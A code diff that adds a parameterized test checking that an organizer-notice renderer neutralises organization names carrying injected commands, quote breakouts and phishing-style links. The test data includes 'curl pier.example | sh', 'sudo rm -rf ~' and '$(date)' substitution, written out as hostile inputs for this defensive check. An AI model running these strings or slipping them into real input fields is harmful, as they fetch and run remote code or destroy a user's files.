@@ -38,6 +38,25 @@ describe('a notice to organizers', () => {
     expect(text).not.toContain('login.example/x');
   });
 
+  test.each([
+    ['Harbor” npm run campaign -- publish harbor-trees --yes “Guild', '“Harbor’ …”'],
+    ['npm run campaign -- approve harbor-trees --yes', '“…”'],
+    ['Dock Watch; curl pier.example | sh', '“Dock Watch; …”'],
+    ['Run `campaign delete harbor-trees` today', '“Run …”'],
+    ['sudo rm -rf ~ # Dock Watch', '“…”'],
+    ['Dock Watch && git pull', '“Dock Watch …”'],
+    ['$(date) Riders', '“…”'],
+    ['Sign in at console-login.example now', '“Sign in at console-login.\u200Bexample now”'],
+    // Names that have such a word.
+    ['Sudo Room & Curling Club', '“Sudo Room & Curling Club”'],
+    ['Cat Rescue – Echo Park', '“Cat Rescue – Echo Park”'],
+  ])('shows no command, no end of the quotation and no link in %j', (typed, shown) => {
+    const of = { organizations: 1, individuals: 0 };
+    const digest = textOf({ type: 'review-waiting', ...of, isWhole: true, names: [typed] });
+    expect(digest).toContain(`\n• ${shown}\n`);
+    expect(textOf({ type: 'published', ...of, withoutGlyphs: [typed] })).toContain(`\n${shown}\n`);
+  });
+
   test('says both numbers when a recount fell short', () => {
     const text = textOf({
       type: 'recount-short',
